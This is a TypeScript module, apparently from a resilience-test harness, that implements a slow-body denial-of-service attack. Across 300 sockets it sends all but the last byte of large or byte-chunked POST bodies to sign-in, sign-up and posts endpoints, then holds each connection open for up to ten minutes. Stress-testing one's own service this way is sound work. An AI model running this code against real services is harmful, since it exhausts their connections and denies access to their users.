import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, attackerAddress, countAnswer } from './attack.ts';
import { openRaw } from './client.ts';

const SOCKETS = 300;
/** How often a socket is opened again after the service has closed it. */
const TIMES = 10;
const JSON_TYPE = 'application/json';
const FORM_TYPE = 'application/x-www-form-urlencoded';

type Body = { path: string; type: string; bytes: number; inChunks?: true };

/** The first is over the limit, the others are below it. A body of chunks has one byte in each. */
const BODIES: [Body, ...Body[]] = [
  { path: '/api/auth/sign-in', type: JSON_TYPE, bytes: Math.floor(4.9 * 1024 * 1024) },
  { path: '/api/auth/sign-in', type: JSON_TYPE, bytes: 15_000 },
  { path: '/api/auth/sign-up', type: JSON_TYPE, bytes: 15_000, inChunks: true },
  { path: '/uk/sign-in', type: FORM_TYPE, bytes: 15_000 },
  { path: '/uk/sign-up', type: FORM_TYPE, bytes: 15_000, inChunks: true },
  { path: '/api/v1/posts', type: JSON_TYPE, bytes: 1024 * 1024 },
];

export const openBodies: Attack = {
  title: `${SOCKETS} sockets hold bodies of 4.9 MB, then smaller ones, with a length or in chunks of a byte`,
  async run({ target, tally, signal }) {
    const hold = async (index: number) => {
      for (let count = 0; count < TIMES && !signal.aborted; count++) {
        const body = count === 0 ? BODIES[0] : (BODIES[(index + count) % BODIES.length] ?? BODIES[0]);
        countAnswer(tally, await holdBody(target.url, { body, from: attackerAddress(index), signal }));
      }
    };
    await Promise.all(Array.from({ length: SOCKETS }, (_, index) => hold(index)));
  },
};

/** Sends all of a body but its end, for which the service waits, and keeps the connection while it is open. */
async function holdBody(
  url: string,
  { body, from, signal }: { body: Body; from: string; signal: AbortSignal },
): Promise<number | string> {
  const { path, type, bytes, inChunks } = body;
  const head = [
    `POST ${path} HTTP/1.1`,
    `Host: ${new URL(url).host}`,
    `Content-Type: ${type}`,
    inChunks ? 'Transfer-Encoding: chunked' : `Content-Length: ${bytes}`,
    '',
    '',
  ].join('\r\n');

  const { socket, status } = await openRaw(url, { from, signal });
  const closed = new Promise((resolve) => socket.once('close', resolve));
  socket.write(head);
  socket.write(inChunks ? '1\r\n \r\n'.repeat(bytes - 1) : Buffer.alloc(bytes - 1, ' '));

  const answer = await Promise.race([status, untilAborted(signal, 'held to the end')]);
  await Promise.race([closed, untilAborted(signal, '')]);
  return answer;
}

async function untilAborted<Value>(signal: AbortSignal, value: Value): Promise<Value> {
  await sleep(600_000, undefined, { signal, ref: false }).catch(() => {});
  return value;
}
